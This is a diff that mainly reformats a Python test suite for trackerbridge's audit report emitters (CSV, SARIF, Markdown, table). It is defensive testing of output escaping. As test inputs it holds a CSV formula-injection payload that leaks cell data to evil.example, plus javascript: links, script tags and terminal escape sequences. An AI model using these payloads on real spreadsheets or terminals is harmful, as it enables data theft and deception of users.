@@ -28,12 +28,26 @@ from trackerbridge.rules.builtin.tb109_sunset_without_learning_note import RULE 
 NOW = datetime(2026, 10, 15, 12, 0, tzinfo=timezone.utc)
 
 # Built here rather than imported, so the golden strings do not change when a built-in rule's text does.
-OWNER = Rule(code="TB101", name="owner-missing", severity=Severity.ERROR,
-             summary="Active initiative without a named owner", what="Nobody in the owner field.",
-             why="Unowned work drifts.", fix="Name an owner.", check=lambda i, c: ())
-LATE = Rule(code="TB105", name="past-end-date", severity=Severity.WARNING, summary="Past its end date",
-            what="The end date has passed.", why="Late work hides.", fix="Extend with a reason, or sunset.",
-            check=lambda i, c: ())
+OWNER = Rule(
+    code="TB101",
+    name="owner-missing",
+    severity=Severity.ERROR,
+    summary="Active initiative without a named owner",
+    what="Nobody in the owner field.",
+    why="Unowned work drifts.",
+    fix="Name an owner.",
+    check=lambda i, c: (),
+)
+LATE = Rule(
+    code="TB105",
+    name="past-end-date",
+    severity=Severity.WARNING,
+    summary="Past its end date",
+    what="The end date has passed.",
+    why="Late work hides.",
+    fix="Extend with a reason, or sunset.",
+    check=lambda i, c: (),
+)
 
 EMITTERS: dict[str, Callable[[AuditResult, io.StringIO], None]] = {
     "table": table.emit,
@@ -54,8 +68,12 @@ def finding(rule: Rule, i: Initiative, message: str, waived_by: str | None = Non
     return Finding(rule.code, rule.name, rule.severity, i.source, i.key, i.url, i.title, message, detail, waived_by)
 
 
-def audit(initiatives: list[Initiative], findings: list[Finding], rules: list[Rule] | None = None,
-          sources: list[SourceSummary] | None = None) -> AuditResult:
+def audit(
+    initiatives: list[Initiative],
+    findings: list[Finding],
+    rules: list[Rule] | None = None,
+    sources: list[SourceSummary] | None = None,
+) -> AuditResult:
     health = health_by_record(findings, [i.ref for i in initiatives])
     ran = {r.code: r for r in (rules if rules is not None else [OWNER, LATE])}
     return AuditResult(NOW, initiatives, findings, health, ran, sources or [])
@@ -74,8 +92,9 @@ def fixture() -> AuditResult:
         finding(OWNER, ops12, "no owner"),
     ]
     sources = [
-        SourceSummary("sfdc", ServerInfo("salesforce", "salesforce", "61.0", "https://acme.my.salesforce.com", "bot"),
-                      1, 2),
+        SourceSummary(
+            "sfdc", ServerInfo("salesforce", "salesforce", "61.0", "https://acme.my.salesforce.com", "bot"), 1, 2
+        ),
         SourceSummary("jira-ops", ServerInfo("jira", "cloud", "1001.0.0", "https://jira.example.com", "bot"), 3, 4),
     ]
     return audit([ops12, ops9, ops30, sf], findings, sources=sources)
@@ -89,9 +108,14 @@ def render(emit: Callable[[AuditResult, io.StringIO], None], result: AuditResult
 
 def shuffled(result: AuditResult) -> AuditResult:
     """The same audit with every collection in another order."""
-    return AuditResult(result.now, result.initiatives[::-1], result.findings[::-1],
-                       dict(reversed(result.health.items())), dict(reversed(result.rules.items())),
-                       result.sources[::-1])
+    return AuditResult(
+        result.now,
+        result.initiatives[::-1],
+        result.findings[::-1],
+        dict(reversed(result.health.items())),
+        dict(reversed(result.rules.items())),
+        result.sources[::-1],
+    )
 
 
 ODD_TITLES = [
@@ -110,6 +134,7 @@ ODD_TITLES = [
 
 
 # --- registration -----------------------------------------------------------------------------------------------
+
 
 def test_builtin_hook_registers_the_seven_formats():
     formats = trackerbridge_audit_formats()
@@ -366,16 +391,22 @@ def parse_csv(text: str) -> list[dict[str, str]]:
     return list(stdlib_csv.DictReader(io.StringIO(text, newline="")))
 
 
-@pytest.mark.parametrize(("title", "shown"), [
-    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
-    ("-2+3", "'-2+3"),
-    ("+1", "'+1"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\tcmd", "'\tcmd"),
-    ("\rcmd", "'\rcmd"),
-    ("a = b - c", "a = b - c"),
-    ("Plain title", "Plain title"),
-])
+@pytest.mark.parametrize(
+    ("title", "shown"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        ),
+        ("-2+3", "'-2+3"),
+        ("+1", "'+1"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("a = b - c", "a = b - c"),
+        ("Plain title", "Plain title"),
+    ],
+)
 def test_csv_defuses_formulas(title, shown):
     i = jira("OPS-1", title)
     rows = parse_csv(render(csv.emit, audit([i], [finding(OWNER, i, title, waived_by=title)])))
@@ -392,7 +423,8 @@ def test_csv_round_trips_quotes_commas_and_newlines():
 
 def test_csv_header_only_when_there_are_no_findings():
     assert render(csv.emit, audit([], [])) == (
-        '"id","code","rule","severity","source","key","title","message","url","waived_by"\r\n')
+        '"id","code","rule","severity","source","key","title","message","url","waived_by"\r\n'
+    )
 
 
 # --- github -------------------------------------------------------------------------------------------------------
@@ -433,10 +465,12 @@ def test_github_skips_waived_findings_but_counts_them():
     i = jira("OPS-1", "t")
     out = render(github.emit, audit([i], [finding(OWNER, i, "no owner", waived_by="ok")]))
     assert out == (
-        "::notice::trackerbridge audit: 1 initiative from 1 source; 0 red, 0 amber, 1 green; 0 findings, 1 waived\n")
+        "::notice::trackerbridge audit: 1 initiative from 1 source; 0 red, 0 amber, 1 green; 0 findings, 1 waived\n"
+    )
 
 
 # --- sarif --------------------------------------------------------------------------------------------------------
+
 
 def sarif_log(result: AuditResult) -> dict:
     return stdlib_json.loads(render(sarif.emit, result))
@@ -499,13 +533,19 @@ def test_sarif_structure_follows_the_spec():
 def test_sarif_results_carry_location_fingerprint_and_suppression():
     results = sarif_log(fixture())["runs"][0]["results"]
     assert [(r["ruleId"], r["level"]) for r in results] == [
-        ("TB105", "warning"), ("TB101", "error"), ("TB101", "error"), ("TB105", "warning")]
+        ("TB105", "warning"),
+        ("TB101", "error"),
+        ("TB101", "error"),
+        ("TB105", "warning"),
+    ]
     waived = results[2]
     assert waived["suppressions"] == [{"kind": "external", "justification": "tb-waive-TB101: owner starts in November"}]
-    assert waived["locations"] == [{
-        "physicalLocation": {"artifactLocation": {"uri": "https://acme.my.salesforce.com/006A"}},
-        "logicalLocations": [{"name": "006A", "fullyQualifiedName": "sfdc:006A", "kind": "object"}],
-    }]
+    assert waived["locations"] == [
+        {
+            "physicalLocation": {"artifactLocation": {"uri": "https://acme.my.salesforce.com/006A"}},
+            "logicalLocations": [{"name": "006A", "fullyQualifiedName": "sfdc:006A", "kind": "object"}],
+        }
+    ]
     assert waived["partialFingerprints"] == {"trackerbridgeFinding/v1": "bef7da58dbb1cc52"}
     assert waived["message"]["text"] == "006A Müller GmbH renewal: no owner"
     assert sum("suppressions" in r for r in results) == 1
@@ -516,14 +556,24 @@ def test_sarif_rule_names_from_real_rules_are_pascal_case():
     log = sarif_log(audit([i], [finding(REAL_TB109, i, "no note")], rules=[REAL_TB105, REAL_TB109]))
     check_sarif_structure(log)
     assert [r["name"] for r in log["runs"][0]["tool"]["driver"]["rules"]] == [
-        "PastEndDate", "SunsetWithoutLearningNote"]
+        "PastEndDate",
+        "SunsetWithoutLearningNote",
+    ]
     assert sarif.pascal("tb-2fa-check") == "Tb2faCheck"
 
 
 def test_sarif_describes_a_rule_that_did_not_run():
     i = jira("OPS-1", "t")
-    stray = Rule(code="TB999", name="plugin-rule", severity=Severity.WARNING, summary="", what="", why="", fix="",
-                 check=lambda i, c: ())
+    stray = Rule(
+        code="TB999",
+        name="plugin-rule",
+        severity=Severity.WARNING,
+        summary="",
+        what="",
+        why="",
+        fix="",
+        check=lambda i, c: (),
+    )
     log = sarif_log(audit([i], [finding(stray, i, "odd")]))
     check_sarif_structure(log)
     rules = log["runs"][0]["tool"]["driver"]["rules"]
@@ -538,11 +588,13 @@ def test_sarif_percent_encodes_urls_and_leaves_out_missing_ones():
     check_sarif_structure(log)
     first, second = log["runs"][0]["results"]
     assert first["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
-        "https://jira.example.com/browse/a%20b/%C3%9C")
+        "https://jira.example.com/browse/a%20b/%C3%9C"
+    )
     assert "physicalLocation" not in second["locations"][0]
 
 
 # --- markdown -----------------------------------------------------------------------------------------------------
+
 
 def table_rows(md: str, heading: str) -> list[list[str]]:
     """The cells of the table under a heading, split on unescaped pipes as GFM does."""
@@ -570,7 +622,8 @@ def test_markdown_structure():
 
 def test_markdown_escapes_tracker_text():
     assert markdown.cell("a|b <script>x</script> & *b* _i_ ~s~ `c` [l](u) \\|") == (
-        "a\\|b &lt;script&gt;x&lt;/script&gt; &amp; \\*b\\* \\_i\\_ \\~s\\~ \\`c\\` \\[l\\](u) \\\\\\|")
+        "a\\|b &lt;script&gt;x&lt;/script&gt; &amp; \\*b\\* \\_i\\_ \\~s\\~ \\`c\\` \\[l\\](u) \\\\\\|"
+    )
     assert markdown.cell("one\ntwo\r\nthree\u2028four\x1b[0m") == "one two three four \\[0m"
     assert markdown.cell(None) == ""
 
@@ -587,7 +640,8 @@ def test_markdown_a_title_cannot_break_the_table():
 
 def test_markdown_links_only_http_urls_and_encodes_them():
     assert markdown.link("OPS_1", "https://x.example/a b|c(d)<e>&f") == (
-        "[OPS\\_1](https://x.example/a%20b%7Cc%28d%29%3Ce%3E&amp;f)")
+        "[OPS\\_1](https://x.example/a%20b%7Cc%28d%29%3Ce%3E&amp;f)"
+    )
     assert markdown.link("OPS-1", "javascript:alert(1)") == "OPS-1"
     assert markdown.link("OPS-1", "") == "OPS-1"
 
@@ -599,6 +653,7 @@ def test_markdown_without_findings_has_no_findings_table():
 
 
 # --- table --------------------------------------------------------------------------------------------------------
+
 
 def plain(result: AuditResult, width: int = 120) -> str:
     out = io.StringIO()
@@ -620,13 +675,15 @@ def test_table_plain_layout():
     assert lines[1] == "Health of the 4 records: 1 red, 2 amber, 1 green"
     header = next(n for n, line in enumerate(lines) if line.startswith("severity"))
     assert lines[header].split() == ["severity", "code", "record", "owner", "title", "message"]
-    rows = [line.split()[:3] for line in lines[header + 2: header + 5]]
+    rows = [line.split()[:3] for line in lines[header + 2 : header + 5]]
     assert rows == [["error", "TB101", "OPS-12"], ["warning", "TB105", "OPS-9"], ["warning", "TB105", "006A"]]
     assert "1 waived (not shown)" in lines
     assert "tb-waive" not in out
-    counts = lines[lines.index("Findings per rule") + 3:]
+    counts = lines[lines.index("Findings per rule") + 3 :]
     assert [line.split() for line in counts if line] == [
-        ["TB105", "past-end-date", "2"], ["TB101", "owner-missing", "1"]]
+        ["TB105", "past-end-date", "2"],
+        ["TB101", "owner-missing", "1"],
+    ]
     assert all(line == line.rstrip() for line in lines)
 
 
@@ -674,8 +731,10 @@ def test_table_emit_colours_a_terminal_unless_no_color(monkeypatch):
 
 def test_table_shows_tracker_text_literally_and_strips_escapes():
     i = jira("OPS-1", "[bold red]markup[/] :smile: \x1b]0;pwned\x07 \x1b[2J \u202eevil")
-    for out in (plain(audit([i], [finding(OWNER, i, "msg\x1b[31m")])),
-                coloured(audit([i], [finding(OWNER, i, "msg\x1b[31m")]))):
+    for out in (
+        plain(audit([i], [finding(OWNER, i, "msg\x1b[31m")])),
+        coloured(audit([i], [finding(OWNER, i, "msg\x1b[31m")])),
+    ):
         assert "[bold red]markup[/] :smile:" in out
         assert "\x1b]0" not in out and "\x1b[2J" not in out and "\x07" not in out and "\u202e" not in out
         assert "\x1b[31m" not in out.split("OPS-1", 1)[1].split("\n", 1)[0]
@@ -697,13 +756,20 @@ def wide_fixture() -> AuditResult:
         owner = people[n % 3]
         i = jira(f"DEL-{n + 1}", f"Migrate billing to ledger v2 in LATAM, phase {n} (pilot with partners)")
         if n % 4 == 3:
-            i = Initiative("sfdc", "salesforce", f"0068d00000000{n:02d}AAA", f"https://sf.example.com/{n}",
-                           f"Atlas Clinics renewal {n}: enterprise SSO and the analytics add-on")
+            i = Initiative(
+                "sfdc",
+                "salesforce",
+                f"0068d00000000{n:02d}AAA",
+                f"https://sf.example.com/{n}",
+                f"Atlas Clinics renewal {n}: enterprise SSO and the analytics add-on",
+            )
         if owner:
             i.owner = Person(name=owner)
         records.append(i)
-    findings = [finding(OWNER if n % 2 else LATE, i, f"in decide {n} days without a decision owner, {n} days past")
-                for n, i in enumerate(records)]
+    findings = [
+        finding(OWNER if n % 2 else LATE, i, f"in decide {n} days without a decision owner, {n} days past")
+        for n, i in enumerate(records)
+    ]
     return audit(records, findings)
 
 
@@ -737,8 +803,16 @@ def test_table_is_one_line_per_finding_at_any_width(width: int) -> None:
 
 
 def test_table_narrows_in_a_fixed_order() -> None:
-    rows = [{"severity": "warning", "code": "TB105", "record": "0068d0000000003AAA", "owner": "o" * 30,
-             "title": "t" * 60, "message": "m" * 80}]
+    rows = [
+        {
+            "severity": "warning",
+            "code": "TB105",
+            "record": "0068d0000000003AAA",
+            "owner": "o" * 30,
+            "title": "t" * 60,
+            "message": "m" * 80,
+        }
+    ]
     widths = {w: table.layout(rows, w) for w in (200, 160, 100, 80, 60, 40)}
     assert widths[200] == ({"severity": 8, "code": 5, "record": 18, "owner": 20, "title": 40, "message": 80}, False)
     assert widths[160][0]["message"] == 59 and widths[160][0]["title"] == 40  # the message gives way first
@@ -752,19 +826,27 @@ def test_table_narrows_in_a_fixed_order() -> None:
 
 def test_table_without_findings():
     out = plain(audit([jira("OPS-1", "t")], []))
-    assert out.split("\n")[:4] == ["1 record (1 initiative, 1 active) from 1 source",
-                                    "Health of the 1 record: 0 red, 0 amber, 1 green", "", "No findings."]
+    assert out.split("\n")[:4] == [
+        "1 record (1 initiative, 1 active) from 1 source",
+        "Health of the 1 record: 0 red, 0 amber, 1 green",
+        "",
+        "No findings.",
+    ]
     assert "Findings per rule" not in out
 
 
 # --- every format -------------------------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("name", sorted(EMITTERS))
 def test_odd_text_never_crashes_and_repeats_exactly(name, tmp_path: Path):
-    initiatives = [jira(f"OPS-{n}", title, source="jira-ops" if n % 2 else "Ω-source") for n, title in
-                   enumerate(ODD_TITLES)]
-    findings = [finding(OWNER, i, title or "no owner", waived_by=title if n % 3 == 0 else None, detail=str(n))
-                for n, (i, title) in enumerate(zip(initiatives, ODD_TITLES, strict=True))]
+    initiatives = [
+        jira(f"OPS-{n}", title, source="jira-ops" if n % 2 else "Ω-source") for n, title in enumerate(ODD_TITLES)
+    ]
+    findings = [
+        finding(OWNER, i, title or "no owner", waived_by=title if n % 3 == 0 else None, detail=str(n))
+        for n, (i, title) in enumerate(zip(initiatives, ODD_TITLES, strict=True))
+    ]
     findings += [finding(LATE, i, "late\n") for i in initiatives]
     result = audit(initiatives, findings)
     emit = EMITTERS[name]
@@ -788,8 +870,13 @@ def test_empty_audit(name):
 
 def test_empty_audit_documents():
     doc = stdlib_json.loads(render(json.emit, audit([], [], rules=[])))
-    assert doc["summary"] == {"initiatives": 0, "health": {"red": 0, "amber": 0, "green": 0}, "findings": 0,
-                              "waived": 0, "by_rule": {}}
+    assert doc["summary"] == {
+        "initiatives": 0,
+        "health": {"red": 0, "amber": 0, "green": 0},
+        "findings": 0,
+        "waived": 0,
+        "by_rule": {},
+    }
     log = sarif_log(audit([], [], rules=[]))
     check_sarif_structure(log)
     assert log["runs"][0]["results"] == [] and log["runs"][0]["tool"]["driver"]["rules"] == []
@@ -838,8 +925,13 @@ def test_sarif_describes_a_crashed_rule_finding_with_its_page() -> None:
 
     fragile = Rule("TB901", "fragile-rule", Severity.WARNING, "s", "w", "y", "f", boom)
     i = jira("OPS-1", "t")
-    result = assess([i], {"TB901": fragile}, RuleSettings(Selection(select=("TB901",))), HealthPolicy(),
-                    datetime(2026, 11, 25, tzinfo=timezone.utc))
+    result = assess(
+        [i],
+        {"TB901": fragile},
+        RuleSettings(Selection(select=("TB901",))),
+        HealthPolicy(),
+        datetime(2026, 11, 25, tzinfo=timezone.utc),
+    )
     log = sarif_log(result)
     check_sarif_structure(log)
     (res,) = log["runs"][0]["results"]
